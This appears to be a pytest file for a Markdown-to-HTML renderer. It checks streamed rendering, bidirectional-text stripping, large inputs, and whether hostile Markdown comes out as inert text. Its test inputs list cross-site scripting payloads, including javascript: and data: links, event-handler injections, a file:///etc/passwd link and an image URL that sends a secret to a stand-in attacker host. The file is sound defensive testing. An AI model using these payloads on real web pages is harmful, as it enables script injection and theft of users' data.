"""Markdown for the page: nothing a model writes becomes a script, a request or a form."""

import random
import re

import pytest

from edgeinfer.server.web.render import Growing, blocks

SAMPLE = """# Title

A paragraph with **bold**, `code` and [a link](https://example.org/a?b=1&c=2).
Still the same.

1. one
2. two

   inside

```python
def f():

    return "```"
```

| a | b |
|---|---|
| 1 | 2 |

> quoted
>
> more

    indented

End\u2028of it.
"""


def test_pieces_give_what_the_whole_gives():
    whole = "".join(blocks(SAMPLE))
    dice = random.Random(7)
    for _ in range(50):
        growing, rest = Growing(), SAMPLE
        shown = []
        while rest:
            size = dice.randint(1, 40)
            first = growing.add(rest[:size])
            shown[first:] = growing.blocks[first:]
            rest = rest[size:]
        assert shown == growing.blocks
        assert "".join(shown) == whole


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:x) [y](file:///etc/passwd) [z](//evil.example) [w](/infer?prompt=x)",
        "![x](https://evil.example/?secret=1)",
        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
        "[x]: javascript:alert(1)\n\n[x]",
        "<javascript:alert(1)>",
        '```"><script>alert(1)</script>\nx\n```',
        '[x](https://e.example "\\" onmouseover=alert(1)")',
        "[![a](https://evil.example/a.png)](https://evil.example)",
        "`<script>`",
        "<iframe src=https://evil.example></iframe><form action=https://evil.example>",
        "<style>@import 'https://evil.example'</style>",
    ],
)
def test_hostile_markdown_becomes_text(hostile):
    markup = "".join(blocks(hostile))
    tags = set(re.findall(r"<\s*/?\s*([a-zA-Z]+)", markup))
    assert tags <= {"p", "a", "code", "pre", "div", "span", "button"}
    for attribute in re.findall(r"<a ([^>]*)>", markup):
        assert attribute.startswith('href="https://')
        assert attribute.endswith('target="_blank" rel="noopener noreferrer nofollow"')
    assert not re.findall(r"<[^>]*\son\w+=", markup)
    assert "src=" not in re.sub("&lt;.*", "", markup)


def test_what_turns_text_around_is_removed():
    assert "\u202e" not in "".join(blocks("abc\u202edef"))


def test_a_megabyte_without_a_break_is_shown_as_it_is():
    for text in ("x" * 1_000_000, "[" * 200_000, "*a " * 300_000, "```\n" + "y" * 500_000):
        markup = "".join(Growing(text).blocks)
        assert len(re.sub("<[^>]*>", "", markup)) > len(text) * 0.6
